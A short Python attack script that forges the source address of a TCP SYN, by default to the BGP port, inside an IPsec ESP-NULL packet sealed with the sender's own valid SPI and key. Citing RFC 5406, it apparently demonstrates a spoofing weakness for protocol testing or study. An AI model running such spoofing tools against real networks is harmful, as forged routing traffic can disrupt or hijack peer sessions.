"""Forge the source address inside a valid SA (RFC 5406 Section 9, "Sender"):
a router with keys of its own claims to be another one.

usage: attack_esp.py SPI KEY SEQUENCE SOURCE DESTINATION [SPORT [DPORT]]

Sends a TCP SYN, in ESP-NULL sealed with the sender's own outbound SPI and key,
from SOURCE to DESTINATION.
"""

import sys

import packets


def main(spi, key, sequence, source, destination, sport="40000", dport="179"):
    segment = packets.tcp(source, destination, int(sport), int(dport))
    esp = packets.esp_seal(int(spi, 0), int(sequence, 0),
                           bytes.fromhex(key.removeprefix("0x")),
                           packets.TCP, segment)
    packets.send_ip(packets.ip(source, destination, packets.ESP, esp),
                    destination)


main(*sys.argv[1:])
